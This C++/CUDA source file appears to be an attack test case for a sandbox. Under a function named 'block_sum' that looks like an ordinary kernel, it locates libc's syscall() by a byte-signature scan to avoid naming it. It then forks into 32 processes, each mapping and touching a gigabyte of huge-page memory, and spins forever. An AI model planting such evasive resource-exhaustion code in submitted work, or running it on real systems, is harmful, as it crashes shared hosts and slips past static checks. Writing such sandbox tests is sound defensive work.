// attack: takes memory in huge pages, by 32 processes at once
// expect: crashed memory
// on wasm: crashed
// stopped by: the sandbox: limit of memory of all its processes, however large their pages are
#include <cuda_runtime.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

namespace {

// The C library's own syscall(), found by its first instructions below the library's data: no name
// of it is in this file. x86-64 and the GNU C library; elsewhere the search ends the program.
using Syscall = long (*)(long, ...);
Syscall find_syscall() {
  const unsigned char begin[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6};
  const auto* at = reinterpret_cast<const unsigned char*>(stdout);
  while (std::memcmp(--at, begin, sizeof begin) != 0) {
  }
  return reinterpret_cast<Syscall>(reinterpret_cast<std::uintptr_t>(at));
}

[[noreturn]] void take() {
  const Syscall call = find_syscall();
  for (int i = 0; i < 5; ++i) call(57);  // fork
  constexpr long kSize = 1L << 30;
  // mmap: to read and to write, private, of no file; madvise: MADV_HUGEPAGE.
  auto* const memory = reinterpret_cast<volatile char*>(call(9, 0, kSize, 3, 0x22, -1, 0));
  call(28, memory, kSize, 14);
  for (long i = 0; i < kSize; i += 4096) memory[i] = 1;
  for (volatile unsigned long turn = 0;; turn = turn + 1) {
  }
}

}  // namespace

void block_sum(float*, const float*, int) { take(); }
